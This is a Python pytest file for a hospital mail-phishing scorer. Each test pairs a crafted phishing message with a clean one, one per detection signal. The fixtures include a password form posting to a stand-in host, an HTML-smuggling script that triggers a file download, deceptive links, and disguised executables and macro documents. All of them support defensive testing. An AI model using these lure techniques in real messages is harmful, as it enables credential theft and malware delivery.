"""Each signal on a crafted positive and a crafted negative message."""

from __future__ import annotations

import pytest
from tests.mail.helpers import HOSPITAL, ISO, LNK, PE, message, zip_bytes

from rempart.mail.score import score_message


def keys(raw: bytes) -> tuple[str, ...]:
    return score_message(raw, HOSPITAL, lang="en").signals


def test_clean_internal_message() -> None:
    v = score_message(message(), HOSPITAL)
    assert v.verdict.value == "clean"
    assert v.score < 40


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("mx.chu-test.fr; spf=pass; dkim=pass; dmarc=fail (p=reject)", "sig_dmarc_fail"),
        ("mx.chu-test.fr; spf=fail smtp.mailfrom=x.com", "sig_spf_fail"),
        ("mx.chu-test.fr; spf=softfail smtp.mailfrom=x.com", "sig_spf_softfail"),
        ("mx.chu-test.fr; dkim=fail header.d=x.com", "sig_dkim_fail"),
        ("mx.chu-test.fr; arc=fail", "sig_arc_fail"),
    ],
)
def test_authentication_failures(header: str, key: str) -> None:
    assert key in keys(message(headers={"Authentication-Results": header}))
    ok = "mx.chu-test.fr; spf=pass; dkim=pass; dmarc=pass; arc=pass"
    assert not {k for k in keys(message(headers={"Authentication-Results": ok})) if "fail" in k}


def test_received_spf_fail() -> None:
    assert "sig_spf_fail" in keys(
        message(headers={"Received-SPF": "Fail (mx: domain does not designate)"})
    )
    assert "sig_spf_fail" not in keys(message(headers={"Received-SPF": "Pass (mx)"}))


def test_reply_to_mismatch() -> None:
    raw = message(sender="Banque <service@banque.example>", headers={"Reply-To": "x@gmail.com"})
    assert "sig_reply_to_mismatch" in keys(raw)
    same = message(
        sender="Banque <service@banque.example>", headers={"Reply-To": "aide@banque.example"}
    )
    assert "sig_reply_to_mismatch" not in keys(same)


def test_display_name_impersonation() -> None:
    raw = message(sender="Marie DUPONT <marie.dupont.chu@gmail.com>")
    v = score_message(raw, HOSPITAL, lang="en")
    assert "sig_impersonated_person" in v.signals
    assert any("Marie Dupont" in r for r in v.reasons)
    assert "sig_impersonated_person" not in keys(
        message(sender="Marie Dupont <marie.dupont@chu-test.fr>")
    )
    assert "sig_impersonated_person" not in keys(message(sender="Marie Durand <md@gmail.com>"))


@pytest.mark.parametrize(
    ("domain", "how"),
    [
        ("chu-test.com", "other_tld"),
        ("chu-tesl.fr", "typo"),
        ("сhu-test.fr", "homoglyph"),  # Cyrillic с
        ("chu-test-rh.fr", "added_words"),
        ("biolab-sud-resultats.com", "added_words"),
    ],
)
def test_lookalike_sender(domain: str, how: str) -> None:
    from rempart.mail.lookalike import lookalike

    hit = lookalike(domain, ("chu-test.fr", "biolab-sud.fr"))
    assert hit is not None
    assert hit.how == how
    assert "sig_lookalike_sender" in keys(message(sender=f"RH <rh@{domain}>"))


def test_lookalike_negative() -> None:
    from rempart.mail.lookalike import lookalike

    for domain in ("chu-test.fr", "mail.chu-test.fr", "example.org", "ch-other.fr"):
        assert lookalike(domain, ("chu-test.fr", "biolab-sud.fr")) is None


def test_lookalike_link_punycode() -> None:
    html = '<p>Connectez-vous <a href="https://xn--chu-tst-9ve.fr/login">ici</a></p>'
    k = keys(message(html=html))
    assert "sig_link_punycode" in k


@pytest.mark.parametrize(
    ("href", "text", "key"),
    [
        ("http://203.0.113.9/login", "ici", "sig_link_ip"),
        ("https://bit.ly/3abc", "ici", "sig_link_shortener"),
        ("https://evil.example/x", "https://www.ameli.fr/connexion", "sig_link_mismatch"),
        ("http://www.chu-test.fr@evil.example/x", "portail", "sig_link_userinfo"),
    ],
)
def test_links(href: str, text: str, key: str) -> None:
    assert key in keys(message(html=f'<p><a href="{href}">{text}</a></p>'))
    good = '<p><a href="https://www.chu-test.fr/intranet">https://www.chu-test.fr/intranet</a></p>'
    assert key not in keys(message(html=good))


def test_first_seen_domain() -> None:
    raw = message(html='<a href="https://new-domain.example/x">lien</a>')
    seen = frozenset({"chu-test.fr"})
    assert "sig_link_first_seen" in score_message(raw, HOSPITAL, seen_domains=seen).signals
    seen2 = frozenset({"new-domain.example"})
    assert "sig_link_first_seen" not in score_message(raw, HOSPITAL, seen_domains=seen2).signals


def test_password_form_in_body() -> None:
    html = '<form action="https://evil.example/p"><input type="password" name="p"></form>'
    assert "sig_body_password_form" in keys(message(html=html))


@pytest.mark.parametrize(
    ("name", "data", "key"),
    [
        ("facture.pdf", PE, "att_executable"),  # by content, not by name
        ("facture.pdf.lnk", LNK, "att_lnk"),
        ("colis.img", ISO, "att_disk_image"),
        ("scan.zip", zip_bytes({"scan.pdf.exe": b"whatever"}), "att_archive_exec"),
        ("payload.zip", zip_bytes({"inner/run.bin": PE}), "att_executable"),
    ],
)
def test_attachments(name: str, data: bytes, key: str) -> None:
    v = score_message(message(attachments=[(name, data, "application/octet-stream")]), HOSPITAL)
    assert key in v.signals
    assert v.flagged


def test_disguised_executable_content() -> None:
    v = keys(message(attachments=[("facture.pdf", PE, "application/pdf")]))
    assert "att_disguised" in v


def test_benign_attachments() -> None:
    pdf = b"%PDF-1.4\n" + b"0" * 500
    doc = zip_bytes({"rapport.pdf": pdf, "notes.txt": b"hello"})
    v = score_message(
        message(
            attachments=[
                ("rapport.pdf", pdf, "application/pdf"),
                ("docs.zip", doc, "application/zip"),
            ]
        ),
        HOSPITAL,
    )
    assert not [k for k in v.signals if k.startswith("att_")]


def test_encrypted_archive() -> None:
    # a zip whose member has the "encrypted" flag bit set, built by patching the flags
    data = bytearray(zip_bytes({"facture.doc": b"x" * 100}))
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        i = data.find(sig)
        off = i + (6 if sig == b"PK\x03\x04" else 8)
        data[off] |= 0x1
    assert "att_archive_encrypted" in keys(
        message(attachments=[("f.zip", bytes(data), "application/zip")])
    )


def test_html_smuggling_and_credential_page() -> None:
    smuggle = (
        b"<html><body><script>var b=atob('TVqQ');var blob=new Blob([b]);"
        b"var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
        b"a.download='facture.iso';a.click();</script></body></html>"
    )
    creds = b'<html><form action="https://x.example"><input type="password"></form></html>'
    k = keys(
        message(attachments=[("doc.html", smuggle, "text/html"), ("login.htm", creds, "text/html")])
    )
    assert "att_html_smuggling" in k
    assert "att_credential_form" in k
    plain = b"<html><body><p>Planning des gardes</p></body></html>"
    k2 = keys(message(attachments=[("planning.html", plain, "text/html")]))
    assert "att_html_smuggling" not in k2
    assert "att_credential_form" not in k2


def test_brand_display_name() -> None:
    assert "sig_brand_display" in keys(
        message(sender="PayPal Service <no-reply@secure-acc0unt.xyz>")
    )
    assert "sig_brand_display" not in keys(message(sender="PayPal <service@paypal.fr>"))


def test_text_model_reads_words() -> None:
    phish = message(
        sender="Support <support@helpdesk.example>",
        subject="Votre compte sera suspendu",
        text="Votre boîte mail a atteint sa limite. Vérifiez votre compte et confirmez votre mot "
        "de passe immédiatement sinon votre compte sera suspendu. Cliquez ici pour valider.",
    )
    v = score_message(phish, HOSPITAL)
    assert "sig_text_model" in v.signals
    assert "sig_text_model" not in score_message(message(), HOSPITAL).signals


def test_office_macros_by_content() -> None:
    docm = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                      "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512})  # fmt: skip
    docx = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    assert "att_macro" in keys(
        message(attachments=[("facture.docx", docm, "application/octet-stream")])
    )
    clean = keys(message(attachments=[("facture.docx", docx, "application/octet-stream")]))
    assert not [k for k in clean if k.startswith("att_")]


def test_tnef_is_reported_not_opened() -> None:
    tnef = b"\x78\x9f\x3e\x22" + b"\x00" * 200
    v = score_message(
        message(attachments=[("winmail.dat", tnef, "application/ms-tnef")]), HOSPITAL, lang="en"
    )
    assert "att_tnef" in v.signals
    assert any("not inspected" in r for r in v.reasons)


def test_mixed_script_words() -> None:
    # Cyrillic "о"/"а" inside English words, Greek capitals inside a brand name
    k = keys(message(sender="Μetamаsk <info@mailer.example>", subject="Yоur аccоunt is locked"))
    assert "sig_mixed_script" in k
    assert "sig_brand_display" in k  # the brand is read through the look-alike letters
    # whole words in one script (Russian, Greek, French accents) are ordinary text
    assert "sig_mixed_script" not in keys(
        message(sender="Ирина Петрова <irina@mail.example>", subject="Отчёт за неделю")
    )
    assert "sig_mixed_script" not in keys(
        message(sender="Σοφία <sofia@mail.example>", subject="Réunion à l'hôpital: ordre du jour")
    )


def test_hosting_sender_and_link() -> None:
    k = keys(message(sender="Service <noreply@promo-42ab.firebaseapp.com>"))
    assert "sig_hosting_sender" in k
    linked = keys(message(html='<a href="https://login-secure.pages.dev/o365">Ouvrir</a>'))
    assert "sig_link_hosting" in linked
    plain = keys(message(html='<a href="https://www.chu-test.fr/planning">Planning</a>'))
    assert "sig_link_hosting" not in plain
    assert "sig_hosting_sender" not in keys(message())


def test_unknown_sender_tld() -> None:
    assert "sig_unknown_tld" in keys(message(sender="Livraison <info@colis-suivi.eu-new>"))
    assert "sig_unknown_tld" not in keys(message(sender="Livraison <info@colis-suivi.co.uk>"))


def test_lure_wording_needs_a_way_out() -> None:
    lure = "Your mailbox is full. Verify your account within 24 hours or it will be suspended."
    away = message(
        sender="IT Support <support@helpdesk.example>",
        subject="Action required",
        html=f'<p>{lure}</p><a href="https://portal-login.example.net/x">Verify</a>',
    )
    assert "sig_lure" in keys(away)
    # the same words with links to the sender's own organisation: a real notice
    own = message(
        sender="IT Support <support@helpdesk.example>",
        subject="Action required",
        html=f'<p>{lure}</p><a href="https://login.helpdesk.example/x">Verify</a>',
    )
    assert "sig_lure" not in keys(own)
    fr = message(
        sender="Service client <info@colis.example>",
        subject="Votre colis est en attente",
        html='<p>Des frais de livraison restent à régler.</p><a href="https://pay.example.org">Payer</a>',
    )
    assert "sig_lure" in keys(fr)
    assert "sig_lure" not in keys(message())


def test_malformed_from_keeps_the_real_address() -> None:
    raw = message(headers={}).replace(
        b"From: Alice Martin <alice.martin@chu-test.fr>",
        b"From: Microsoft account team ,_<no-reply@access-accsecurity.example>",
    )
    v = score_message(raw, HOSPITAL, lang="en")
    assert "sig_from_malformed" in v.signals
    assert "sig_brand_display" in v.signals  # the display name and address were recovered
    assert "sig_no_from" not in v.signals
    assert "sig_from_malformed" not in keys(message(sender='"Martin, Alice" <alice@chu-test.fr>'))
